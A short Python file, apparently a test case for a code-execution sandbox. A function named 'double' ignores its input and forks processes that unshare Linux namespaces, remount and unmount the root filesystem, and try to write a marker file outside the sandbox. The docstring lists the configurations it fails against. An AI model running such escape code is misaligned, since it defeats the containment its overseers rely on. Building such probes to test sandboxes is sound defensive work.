"""Makes namespaces of its own, in which it would be root.

Loses: double-small, double-large
"""
# %% double
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)


def double(x):
    for flag in (0x10000000, 0x10020000, 0x20000, 0x40000000, 0x20000000):
        if os.fork() == 0:
            print("unshare", libc.unshare(flag), ctypes.get_errno())
            libc.mount(b"none", b"/", None, 0x44000, None)
            libc.mount(b"proc", b"/tmp", b"proc", 0, None)
            libc.umount2(b"/", 2)
            try:
                open("/outside/touched/$MARKunshare", "w").write("$MARK")
            except OSError:
                pass
            os._exit(0)
        os.wait()
    return 0
